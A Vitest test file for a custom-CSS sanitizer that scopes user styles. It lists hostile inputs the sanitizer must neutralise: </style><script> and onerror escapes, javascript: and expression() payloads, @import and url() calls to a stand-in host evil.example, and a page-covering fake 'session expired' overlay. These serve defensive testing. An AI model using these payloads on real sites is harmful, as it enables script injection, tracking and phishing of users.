import { describe, expect, it } from 'vitest';
import { sanitizeCustomCss } from './css-sanitizer.ts';

const SCOPE = '.forja-proyecto';
const clean = (css: string) => sanitizeCustomCss(css, SCOPE);

describe('sanitizeCustomCss', () => {
  it('keeps ordinary rules and scopes every selector', () => {
    const out = clean('h1 { color: red; font-weight: 700 } .card, p > a:hover { padding: 4px }');
    expect(out).toContain(`${SCOPE} h1 { color: red; font-weight: 700 }`);
    expect(out).toContain(`${SCOPE} .card, ${SCOPE} p > a:hover { padding: 4px }`);
  });

  it('maps html, body and :root onto the scope itself', () => {
    expect(clean('body { background: #000 }')).toBe(`${SCOPE} { background: #000 }`);
    expect(clean(':root { --x: 1px }')).toBe(`${SCOPE} { --x: 1px }`);
    expect(clean('html body .x { margin: 0 }')).toBe(`${SCOPE} .x { margin: 0 }`);
  });

  it('scopes rules inside @media and keeps keyframes', () => {
    const out = clean(
      '@media (max-width: 600px) { h2 { font-size: 1rem } } @keyframes pulse { from { opacity: 0 } to { opacity: 1 } }',
    );
    // Serialised from the parsed tree (issue 24): css-tree writes the prelude compactly.
    expect(out).toContain(`@media (max-width:600px) { ${SCOPE} h2 { font-size: 1rem } }`);
    expect(out).toContain('@keyframes pp-pulse { from { opacity: 0 } to { opacity: 1 } }');
  });

  const hostile: [string, string, RegExp][] = [
    ['</style> escape', 'p { color: red } </style><script>alert(1)</script><style>', /<|script>/i],
    ['</style> inside a value', 'p { content: "</style><img src=x onerror=alert(1)>" }', /</],
    ['@import', '@import url("https://evil.example/x.css"); p { color: red }', /@import|evil/i],
    ['@import without url', '@import "https://evil.example/x.css";', /@import|evil/i],
    ['escaped @import', '@\\69mport "https://evil.example/x.css";', /import|evil/i],
    ['url(javascript:)', 'p { background: url(javascript:alert(1)) }', /javascript|url/i],
    [
      'quoted url(javascript:)',
      "p { background-image: url('javascript:alert(1)') }",
      /javascript|url/i,
    ],
    ['url() to another host', 'p { background: url(https://evil.example/track.png) }', /evil|url/i],
    ['protocol-relative url()', 'p { background: url(//evil.example/t.png) }', /evil|url/i],
    ['expression()', 'p { width: expression(alert(1)) }', /expression/i],
    [
      'expression() split by a comment',
      'p { width: expr/**/ession(alert(1)) }',
      /expression|alert/i,
    ],
    ['escaped expression', 'p { width: e\\xpression(alert(1)) }', /xpression|alert/i],
    ['behavior', 'p { behavior: url(/x.htc) }', /behavior/i],
    ['-moz-binding', 'p { -moz-binding: url("http://evil.example/x.xml#x") }', /binding|evil/i],
    [
      '@font-face loading a remote font',
      '@font-face { font-family: x; src: url(https://evil.example/f.woff) }',
      /font-face|evil/i,
    ],
    [
      'image-set to another host',
      'p { background: image-set("https://evil.example/a.png" 1x) }',
      /evil|image-set/i,
    ],
    ['position fixed overlay', '.x { position: fixed; inset: 0; z-index: 9999 }', /fixed/i],
    ['javascript: in a selector', 'a[href="javascript:alert(1)"] { color: red }', /<(?!x)/],
  ];
  it.each(hostile)('neutralises %s', (_name, input, forbidden) => {
    const out = clean(input);
    expect(out).not.toMatch(forbidden);
    expect(out).not.toContain('<');
    expect(out.toLowerCase()).not.toContain('</style');
  });

  it('allows same-origin and inline raster images', () => {
    expect(clean('p { background: url(/files/projects/a/1.png) }')).toContain(
      'url(/files/projects/a/1.png)',
    );
    expect(clean('p { background: url("data:image/png;base64,iVBORw0KGgo=") }')).toContain(
      'data:image/png',
    );
    expect(
      clean('p { background: url("data:image/svg+xml,<svg onload=alert(1)>") }'),
    ).not.toContain('svg');
  });

  it('survives unbalanced and garbage input without throwing', () => {
    for (const input of [
      '{{{{',
      '}}}} p { color: red',
      'p { color: red',
      '@media {',
      '"unterminated { color: red }',
      ';;;;',
      'a{b:c}'.repeat(5000),
    ]) {
      expect(() => clean(input)).not.toThrow();
      expect(clean(input)).not.toContain('<');
    }
  });
});

describe('sanitizeCustomCss confinement (issue 10)', () => {
  it('drops the page-covering pseudo-element of the red-team report', () => {
    const out = clean(
      'h1::before { content: "Tu sesión ha caducado"; position: absolute; top: -3000px; left: -3000px; padding: 5000px; z-index: 2147483647; background: white; color: red }',
    );
    expect(out).not.toMatch(/-3000px|5000px|2147483647/);
    expect(out).toContain('z-index: 100');
    expect(out).toContain('color: red');
  });

  it.each([
    ['position fixed', 'div { position: fixed; color: red }', /fixed/],
    ['huge inset', 'div { inset: -99999px }', /99999/],
    ['viewport-sized margins', 'div { margin-top: -500vh }', /500vh/],
    ['huge font', 'p { font-size: 900rem }', /900rem/],
    ['scale factor', 'p { transform: scale(400) }', /scale/],
    ['calc multiplication', 'p { width: calc(100vw * 50) }', /calc/],
    ['exponent lengths', 'p { top: 1e6px }', /1e6/],
    ['huge shadow', 'p { box-shadow: 0 0 0 9999px black }', /9999/],
    ['costly blur', 'p { filter: blur(500px) }', /blur/],
    [
      'many shadow layers',
      `p { text-shadow: ${Array(9).fill('1px 1px 1px red').join(', ')} }`,
      /shadow/,
    ],
    [
      'sibling of the scope',
      'body ~ header { display: none } html + * { color: red }',
      /header|\+|~/,
    ],
    ['leading sibling combinator', '~ header { display: none }', /header/],
    [':has() selectors', 'div:has(p) { color: red }', /has/],
    ['universal chains', '* * * { color: red }', /\*/],
  ])('neutralises %s', (_name, input, forbidden) => {
    expect(clean(input)).not.toMatch(forbidden);
  });

  it('keeps ordinary layout values, colours and z-index', () => {
    const out = clean(
      '.card { width: 100%; max-width: 1200px; margin: 0 auto; padding: 2rem; border: 1px solid rgb(200, 200, 200); box-shadow: 0 4px 12px rgba(0,0,0,0.2); z-index: 3; transform: translateY(-4px) rotate(2deg) }',
    );
    expect(out).toContain('max-width: 1200px');
    expect(out).toContain('border: 1px solid rgb(200,200,200)');
    expect(out).toContain('box-shadow: 0 4px 12px rgba(0,0,0,0.2)');
    expect(out).toContain('z-index: 3');
    expect(out).toContain('transform: translateY(-4px) rotate(2deg)');
  });

  it('prefixes keyframe names and the animations that use them', () => {
    const out = clean('@keyframes spin { to { opacity: 0 } } .x { animation: spin 1s infinite }');
    expect(out).toContain('@keyframes pp-spin');
    expect(out).toContain('animation: pp-spin 1s infinite');
  });

  it('caps the number of rules', () => {
    const out = clean('p { color: red }'.repeat(2000));
    expect(out.split('\n')).toHaveLength(600);
  });
});
